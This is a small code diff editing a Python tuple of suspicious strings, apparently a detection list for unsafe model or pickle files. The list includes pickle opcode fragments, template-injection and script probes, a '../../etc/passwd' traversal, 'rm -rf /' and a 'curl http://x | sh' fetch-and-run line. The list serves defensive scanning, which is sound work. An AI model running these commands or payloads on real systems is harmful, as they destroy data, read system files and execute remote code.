@@ -23,7 +23,7 @@ _SKLEARN: Final = Technique("honest scikit-learn models", "honest-sklearn")
 
 SCARY: Final = (
     "os.system", "eval", "exec", "__import__", "subprocess.Popen", "__reduce__", "pickle.loads", "rm -rf /",
-    "cos\nsystem\n(S'echo'\ntR.", "__globals__", "{{ ''.__class__ }}", "<script>", "../../etc/passwd", "builtins",
+    "cos\nsystem", "__globals__", "{{ ''.__class__ }}", "<script>", "../../etc/passwd", "builtins",
     "curl http://x | sh", "posix\nsystem", "\x80\x04\x95", "_target_: os.system", "lambda", "!!python/object",
 )  # fmt: skip
 
